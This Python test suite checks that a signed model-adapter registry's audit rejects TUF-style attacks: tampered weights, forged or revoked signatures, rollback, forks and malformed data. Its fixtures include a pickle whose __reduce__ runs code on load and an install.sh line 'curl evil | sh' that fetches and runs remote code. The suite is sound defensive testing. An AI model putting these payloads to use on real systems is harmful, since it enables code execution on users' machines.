"""One test per attack (TUF's list plus routing hijack): each builds a registry, audits it once
(so a trusted state exists), mounts the attack, and asserts the audit rejects it AND that the
trusted state file did not change (python-tuf's rule; tough once cached a rejected update)."""

from __future__ import annotations

import hashlib
import json
import pickle
import shutil
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest
from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
from registry_fixtures import (
    BASE_SHA,
    ROTATIONS,
    T0,
    adapter_dir,
    build_registry,
    duplicate_first_signature,
    entry_json,
    forge_version,
    inject_adapter,
    make_export,
    make_stats,
    make_tensors,
    manifest_bytes,
    new_key,
    read_payload,
    sign_export_files,
    write_tree_head,
)

from seqr.core import signing
from seqr.core.errors import (
    ForkError,
    FormatError,
    FreezeError,
    RegistryError,
    RollbackError,
    SeqrError,
    SignatureError,
)
from seqr.registry import store
from seqr.registry.audit import AuditReport, audit_registry
from seqr.registry.config import AuditConfig
from seqr.registry.publish import Publisher
from seqr.registry.roots import make_root, sign_root

NOW = T0 + timedelta(hours=2)


@dataclass
class Repo:
    path: Path
    state: Path
    server: list[EllipticCurvePrivateKey]
    clients: list[EllipticCurvePrivateKey]

    def audit(self, now=NOW, config: AuditConfig | None = None) -> AuditReport:  # type: ignore[no-untyped-def]
        return audit_registry(self.path, self.state, now, config=config)

    def rejects(
        self,
        error: type[SeqrError],
        match: str,
        *,
        now=NOW,  # type: ignore[no-untyped-def]
        config: AuditConfig | None = None,
        path: Path | None = None,
    ) -> None:
        before = self.state.read_bytes()
        with pytest.raises(error, match=match):
            audit_registry(path or self.path, self.state, now, config=config)
        assert self.state.read_bytes() == before, "a rejected audit changed the trusted state"


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    r = Repo(tmp_path / "registry", tmp_path / "trusted.json", [new_key()], [new_key(), new_key()])
    build_registry(r.path, r.server, r.clients).close()
    assert r.audit().version == 2  # the trusted state now pins version 2
    return r


def _keyid(key: EllipticCurvePrivateKey) -> str:
    return signing.fingerprint(signing.public_key_bytes(key))


def _relist(payload: dict, index: int, folder: Path, names: tuple[str, ...]) -> None:  # type: ignore[type-arg]
    """A malicious server updating entry ``index`` to whatever the files now are."""
    entry = payload["entries"][index]
    for name in names:
        data = (folder / name).read_bytes()
        entry["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "length": len(data)}


# ---------------------------------------------------------------- arbitrary installation
def test_tampered_adapter_bytes_rejected(repo: Repo) -> None:
    weights = adapter_dir(repo.path) / "adapter_model.safetensors"
    data = bytearray(weights.read_bytes())
    data[-1] ^= 0x01  # one bit of one weight, same length: a mirror's backdoor
    weights.write_bytes(bytes(data))
    repo.rejects(RegistryError, "adapter_model.safetensors has sha256 .* changed after signing")


def test_tampered_statistics_rejected(repo: Repo) -> None:
    # Routing hijack: small mu, tiny sigma make this adapter win inputs that are not its own.
    folder = adapter_dir(repo.path)
    good = (folder / "norm_stats.json").read_bytes()
    (folder / "norm_stats.json").write_bytes(make_stats(mean=0.1, std=0.01))
    repo.rejects(RegistryError, "norm_stats.json .*(larger than its limit|bytes but the signed)")
    # The server re-lists the lying statistics for a published adapter: append-only says no.
    forge_version(repo.path, repo.server, lambda p: _relist(p, 0, folder, ("norm_stats.json",)))
    repo.rejects(RegistryError, "changes adapter .* without revoking its client")
    # A NEW adapter listed with lying statistics: the client's signature says no.
    (folder / "norm_stats.json").write_bytes(good)
    (repo.path / store.POINTER).write_bytes(b'{"version":2}')
    (repo.path / store.metadata_path(3)).unlink()
    client = repo.clients[0]
    files = make_export(client, seed=5)
    files["norm_stats.json"] = make_stats(mean=0.1, std=0.01)
    inject_adapter(repo.path, repo.server, client, files)
    repo.rejects(RegistryError, "norm_stats.json has sha256 .* but the signature covers")


def test_routing_hijack_statistics_swap_rejected(repo: Repo) -> None:
    # Two new adapters whose genuine, signed statistics were swapped by the server.
    a, b = (make_export(c, seed=5 + i) for i, c in enumerate(repo.clients))
    a["norm_stats.json"], b["norm_stats.json"] = b["norm_stats.json"], a["norm_stats.json"]
    inject_adapter(repo.path, repo.server, repo.clients[0], a)
    inject_adapter(repo.path, repo.server, repo.clients[1], b)
    repo.rejects(
        RegistryError, "2 of 4 adapter(.|\n)*norm_stats.json has sha256 .* but the signature covers"
    )


def test_forged_client_signature_rejected(repo: Repo) -> None:
    # The server writes a manifest for lying statistics in the victim's name (the victim's
    # public key in it) and signs it with its own key.
    victim, attacker = repo.clients[0], new_key()
    files = make_export(victim, seed=5)
    files["norm_stats.json"] = make_stats(mean=0.1, std=0.01)
    signed = {n: b for n, b in files.items() if n != "model.sig"}
    files = sign_export_files(attacker, signed, name="domain-5")
    inject_adapter(repo.path, repo.server, victim, files)
    repo.rejects(RegistryError, "model.sig was made by another key")


def test_missing_client_signature_rejected(repo: Repo) -> None:
    (adapter_dir(repo.path) / "model.sig").unlink()
    repo.rejects(RegistryError, "model.sig is missing: the client's model-signing bundle")


# ---------------------------------------------------------------- allow-list
def test_unknown_client_key_rejected(repo: Repo) -> None:
    # Decision (documented in entries.py / metadata.py): the signed registry metadata carries
    # the allow-list ("clients"); an entry by any other key is rejected.
    stranger = new_key()
    inject_adapter(repo.path, repo.server, stranger, make_export(stranger, seed=9))
    repo.rejects(RegistryError, "not on this registry's allow-list")
    victim = _keyid(repo.clients[1])
    forge_version(repo.path, repo.server, lambda p: p["clients"].pop(victim))
    repo.rejects(RegistryError, "not on this registry's allow-list")


def test_revoked_client_key_rejected(repo: Repo) -> None:
    revoked = _keyid(repo.clients[0])

    def revoke_but_keep_adapters(p: dict) -> None:  # type: ignore[type-arg]
        client = p["clients"].pop(revoked)
        p["revoked"][revoked] = {
            "public_key": client["public_key"],
            "revoked": "2025-06-01T13:00:00Z",
            "reason": "key leaked",
        }

    forge_version(repo.path, repo.server, revoke_but_keep_adapters)
    repo.rejects(RegistryError, "signed by revoked client key")


def test_revocation_cannot_be_undone(repo: Repo) -> None:
    revoked = _keyid(repo.clients[0])
    with Publisher(repo.path, repo.server) as pub:
        pub.revoke_client(revoked, "key leaked")
        pub.publish(now=T0 + timedelta(hours=1))
    assert repo.audit().version == 3 and len(repo.audit().entries) == 1
    old = read_payload(repo.path, 2)

    def unrevoke(p: dict) -> None:  # type: ignore[type-arg]
        del p["revoked"][revoked]
        p["clients"][revoked] = old["clients"][revoked]
        p["entries"] = old["entries"]

    forge_version(repo.path, repo.server, unrevoke)
    repo.rejects(RegistryError, "revocations are permanent")


# ---------------------------------------------------------------- server keys
def test_server_signature_below_threshold_rejected(tmp_path: Path) -> None:
    keys = [new_key() for _ in range(3)]
    roots = [signing.public_key_bytes(k) for k in keys]
    r = Repo(tmp_path / "registry", tmp_path / "trusted.json", keys[:2], [new_key()])
    build_registry(r.path, r.server, r.clients, threshold=2, root_keys=roots).close()
    assert r.audit().signed_by == tuple(sorted(_keyid(k) for k in keys[:2]))
    attacker = new_key()
    forge_version(r.path, [keys[0], attacker], head_keys=keys[:2])  # one root key of two
    r.rejects(SignatureError, r"metadata/3.registry.json is signed by 1/2")
    # The same key signing twice still counts once.
    data = json.loads((r.path / store.metadata_path(3)).read_bytes())
    data["signatures"] = [data["signatures"][0]] * 2
    (r.path / store.metadata_path(3)).write_bytes(json.dumps(data).encode())
    write_tree_head(r.path, 3, keys[:2], 1, NOW)
    r.rejects(SignatureError, "signed by 1/2")


def test_rotated_out_key_cannot_sign(repo: Repo) -> None:
    new = new_key()
    with Publisher(repo.path, repo.server) as pub:
        pub.rotate_root([signing.public_key_bytes(new)], 1, [new], now=T0 + timedelta(hours=1))
    assert repo.audit().root_version == 2
    # The old (compromised, rotated-out) key signs a version under the new root ...
    forge_version(repo.path, repo.server, head_keys=[new])
    repo.rejects(SignatureError, "signed by 0/1")
    # ... or claims the old root still applies (a rollback of the root).
    (repo.path / store.metadata_path(4)).unlink()
    (repo.path / store.POINTER).write_bytes(b'{"version":3}')
    forge_version(repo.path, repo.server, lambda p: p.update(root_version=1), head_keys=[new])
    repo.rejects(RollbackError, "root 2 is already trusted")


# ---------------------------------------------------------------- versions and time
def test_rollback_rejected(repo: Repo, tmp_path: Path) -> None:
    old_copy = tmp_path / "mirror-at-v2"
    shutil.copytree(repo.path, old_copy)
    with Publisher(repo.path, repo.server) as pub:
        pub.stage_adapter(make_export(repo.clients[0], seed=5))
        pub.publish(now=T0 + timedelta(hours=1))
    assert repo.audit().version == 3
    repo.rejects(RollbackError, "older than the trusted version 3", path=old_copy)
    (repo.path / store.POINTER).write_bytes(b'{"version":2}')
    repo.rejects(RollbackError, "rollback")


def test_freeze_expired_metadata_rejected(repo: Repo) -> None:
    expires = read_payload(repo.path, 2)["expires"]
    assert expires == "2025-06-08T12:01:00Z"
    repo.rejects(
        FreezeError, "expired at 2025-06-08T12:01:00Z", now=T0 + timedelta(days=7, hours=1)
    )


def test_mix_and_match_across_versions_rejected(repo: Repo) -> None:
    with Publisher(repo.path, repo.server) as pub:
        pub.stage_adapter(make_export(repo.clients[0], seed=5))
        pub.publish(now=T0 + timedelta(hours=1))
    v2, v3 = (repo.path / store.metadata_path(v) for v in (2, 3))
    h2, h3 = (repo.path / store.tree_head_path(v) for v in (2, 3))
    good_v3, good_h3 = v3.read_bytes(), h3.read_bytes()
    v3.write_bytes(v2.read_bytes())  # an old version served under the new name
    repo.rejects(RegistryError, "holds version 2, not 3 .mix-and-match.")
    v3.write_bytes(good_v3)
    h3.write_bytes(h2.read_bytes())  # the new version with the old tree head
    repo.rejects(RegistryError, "tree size 2 .* expected size 3 .*mix-and-match")
    h3.write_bytes(good_h3)
    assert repo.audit().version == 3


def test_fork_split_view_log_rejected(repo: Repo, tmp_path: Path) -> None:
    fork = tmp_path / "fork"
    shutil.copytree(repo.path, fork)
    for path, seed in ((repo.path, 5), (fork, 6)):  # two different version 3s
        with Publisher(path, repo.server) as pub:
            pub.stage_adapter(make_export(repo.clients[0], seed=seed))
            pub.publish(now=T0 + timedelta(hours=1))
    assert repo.audit().version == 3
    repo.rejects(ForkError, "split view", path=fork)
    # The server rewrites history BELOW the trusted version and keeps publishing: the RFC 9162
    # consistency proof from the trusted tree head fails.
    first = repo.path / store.metadata_path(1)
    first.write_bytes(first.read_bytes() + b"\n")
    with Publisher(repo.path, repo.server) as pub:
        pub.publish(now=T0 + timedelta(hours=1, minutes=5))
    repo.rejects(ForkError, "does not contain the trusted tree of size 3")


# ---------------------------------------------------------------- malformed and endless data
def test_endless_data_oversized_file_rejected(repo: Repo) -> None:
    weights = adapter_dir(repo.path) / "adapter_model.safetensors"
    good = weights.read_bytes()
    weights.write_bytes(good + b"\0" * 1_000_000)
    repo.rejects(RegistryError, "larger than its limit of .* bytes .endless data.")
    weights.write_bytes(good)
    small = AuditConfig(max_metadata_bytes=1000)
    repo.rejects(FormatError, "larger than its limit of 1000 bytes", config=small)
    (repo.path / store.POINTER).write_bytes(b'{"version":2}' + b" " * 5000)
    repo.rejects(FormatError, "latest.json .* limit of 1024 bytes")


@pytest.mark.parametrize(
    ("body", "match"),
    [
        (lambda p: json.dumps(p).replace('"version": 3', '"version": 3.0').encode(), "integer"),
        (lambda p: json.dumps({**p, "extra": 1}).encode(), "unknown field"),
        (lambda p: json.dumps(p)[:-1].encode() + b',"version":3}', "duplicate key"),
        (lambda p: json.dumps(p)[:100].encode(), "not valid JSON"),
        (lambda p: b"\x80" + json.dumps(p).encode(), "UTF-8"),
    ],
    ids=["float", "unknown-field", "duplicate-key", "truncated", "not-utf8"],
)
def test_malformed_metadata_rejected(repo: Repo, body, match: str) -> None:  # type: ignore[no-untyped-def]
    forge_version(repo.path, repo.server, payload_bytes=body)
    repo.rejects(FormatError, match)
    (repo.path / store.metadata_path(3)).write_bytes(b"<html>not a registry</html>")
    repo.rejects(FormatError, "not valid JSON")


def test_malformed_safetensors_rejected(repo: Repo) -> None:
    client = repo.clients[0]
    weights = (adapter_dir(repo.path) / "adapter_model.safetensors").read_bytes()
    broken = weights[:8] + b"{" + weights[9:] + b"trailing"  # header intact, 8 bytes too many
    inject_adapter(repo.path, repo.server, client, make_export(client, weights=broken))
    repo.rejects(RegistryError, "malformed: .*trailing bytes")


def test_malformed_manifest_rejected(repo: Repo) -> None:
    client = repo.clients[0]
    files = make_export(client, seed=7)
    files["manifest.json"] = b'{"format_version": 2, "name": '  # signed, but not JSON
    files = sign_export_files(client, {n: b for n, b in files.items() if n != "model.sig"})
    inject_adapter(repo.path, repo.server, client, files)
    repo.rejects(RegistryError, "malformed: manifest.json is not valid JSON")


class _Exploit:
    """A pickle that creates a file when loaded: what torch.load would run."""

    marker: Path

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (Path.touch, (self.marker,))


def test_pickle_payload_rejected(repo: Repo, tmp_path: Path) -> None:
    exploit = _Exploit()
    exploit.marker = tmp_path / "pwned"
    payload = pickle.dumps(exploit, protocol=4)
    client = repo.clients[0]
    inject_adapter(repo.path, repo.server, client, make_export(client, weights=payload))
    repo.rejects(RegistryError, "pickle")
    assert not exploit.marker.exists(), "the pickle was loaded"


def test_nan_weights_rejected(repo: Repo) -> None:
    tensors = make_tensors(8)
    name = next(n for n in tensors if "lora_B" in n)
    tensors[name][1, 1] = np.nan
    client = repo.clients[0]
    inject_adapter(repo.path, repo.server, client, make_export(client, tensors=tensors))
    repo.rejects(RegistryError, "NaN or infinite")


def test_wrong_shapes_rejected(repo: Repo) -> None:
    client = repo.clients[0]
    tensors = make_tensors(8)
    name = next(n for n in tensors if "lora_B" in n)
    tensors[name] = np.ones((4, 3), dtype=np.float32)  # rank 3 in a rank-2 federation
    inject_adapter(repo.path, repo.server, client, make_export(client, tensors=tensors))
    repo.rejects(RegistryError, "lora_B must be .d_out, 2.")


def test_wrong_software_other_base_model_rejected(repo: Repo) -> None:
    client = repo.clients[0]
    other = hashlib.sha256(b"another model").hexdigest()
    assert other != BASE_SHA
    files = make_export(client, seed=7, base_model_sha256=other)
    inject_adapter(repo.path, repo.server, client, files)
    repo.rejects(RegistryError, "federation pin: adapter for another model")


def test_extraneous_file_in_manifest_rejected(repo: Repo) -> None:
    client = repo.clients[0]
    files = make_export(client, seed=7)
    payload = {n: files[n] for n in ("adapter_config.json", "adapter_model.safetensors")}
    payload["norm_stats.json"] = files["norm_stats.json"]
    payload["install.sh"] = b"curl evil | sh"
    payload["manifest.json"] = manifest_bytes(client)
    files = sign_export_files(client, payload)  # the bundle signs install.sh too
    del files["install.sh"]
    entry = entry_json(files, client)
    inject_adapter(repo.path, repo.server, client, files)
    assert read_payload(repo.path, 3)["entries"][-1] == entry
    repo.rejects(RegistryError, "install.sh")


@pytest.mark.parametrize(
    ("case", "old", "new", "signers", "expected"), ROTATIONS, ids=[r[0] for r in ROTATIONS]
)
def test_key_rotation_table(
    tmp_path: Path,
    case: str,
    old: tuple[str, int],
    new: tuple[str, int],
    signers: str,
    expected: bool,
) -> None:
    """Each row: a registry under the old root, a root 2 signed by ``signers``, and a version
    signed by the new keys under it; the audit trusts it only if TUF 5.3.4 AND 5.3.5 hold."""
    keys = {name: new_key() for name in "ABCDE"}
    (old_names, old_threshold), (new_names, new_threshold) = old, new
    r = Repo(
        tmp_path / "registry",
        tmp_path / "trusted.json",
        [keys[n] for n in old_names],
        [new_key()],
    )
    build_registry(
        r.path,
        r.server,
        r.clients,
        threshold=old_threshold,
        root_keys=[signing.public_key_bytes(keys[n]) for n in old_names],
    ).close()
    assert r.audit().root_version == 1
    root2 = make_root(
        2,
        [signing.public_key_bytes(keys[n]) for n in new_names],
        new_threshold,
        T0,
        T0 + timedelta(days=365),
    )
    unique = list(dict.fromkeys(signers))
    data = sign_root(root2, [keys[n] for n in unique])
    if len(unique) < len(signers):
        data = duplicate_first_signature(data)
    (r.path / store.root_path(2)).write_bytes(data)
    new_signers = [keys[n] for n in new_names]
    forge_version(r.path, new_signers, lambda p: p.update(root_version=2), head_keys=new_signers)
    if expected:
        assert r.audit().root_version == 2
    else:
        r.rejects(SignatureError, "root/2.root.json .* is signed by")
